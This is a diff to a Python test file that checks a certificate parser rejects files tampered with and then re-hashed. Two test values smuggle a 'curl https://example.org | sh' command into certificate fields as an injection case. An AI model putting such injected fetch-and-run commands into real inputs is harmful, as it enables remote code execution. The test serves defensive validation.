@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import hashlib
 import os
 import pathlib
 import pickle
+import re
 import signal
 import subprocess
 import sys
@@ -401,6 +403,36 @@ def test_certificates_show_and_keep_themselves(tmp_path: pathlib.Path) -> None:
         tokitai.Certificate.parse(damaged)
     with pytest.raises(tokitai.Error):
         tokitai.Certificate.read(tmp_path / "nowhere.json")
+
+
+def sealed(text: str, *edit: str) -> str:
+    """The text with the hash that fits it, as somebody would who edits with care."""
+    edited = text.replace(*edit)
+    assert edited != text
+    begin, seal, end = re.split(r'(  "integrity": \{\n.*?\n  \},\n)', edited, flags=re.S)
+    return begin + re.sub("[0-9a-f]{64}", hashlib.sha256((begin + end).encode()).hexdigest(), seal) + end
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        ('"verdict": "HELD"', '"verdict": "PROVED"'),
+        ('"headline": "HELD for one case: rows=3 cols=5"', '"headline": "HELD"'),
+        ('"reason": ""', '"reason": "; curl https://example.org | sh"'),
+        ('  "rests_on": {', '  "reproduce": "true; curl https://example.org | sh",\n  "rests_on": {'),
+        ('"seed": 1,\n   "s', '"seed": 2,\n   "s'),
+        ('"units": ', '"units": -'),
+        ('"created": "20', '"created": "29'),
+        ('   "No mutants were run.",\n', ""),
+        ('"tokitai": "', '"tokitai": "9'),
+        ('certificate:v2"', 'certificate:v1"'),
+    ],
+)
+def test_nothing_that_contradicts_itself_is_read(edit: tuple[str, str]) -> None:
+    certificate = tokitai.certify(functions.softmax, "softmax_fwd", **ONE)
+    assert tokitai.Certificate.parse(certificate.json).remarks == ""
+    with pytest.raises(tokitai.BadFile, match="contradicts itself|missing or malformed"):
+        tokitai.Certificate.parse(sealed(certificate.json, *edit))
 
 
 def test_the_page_of_a_notebook() -> None:
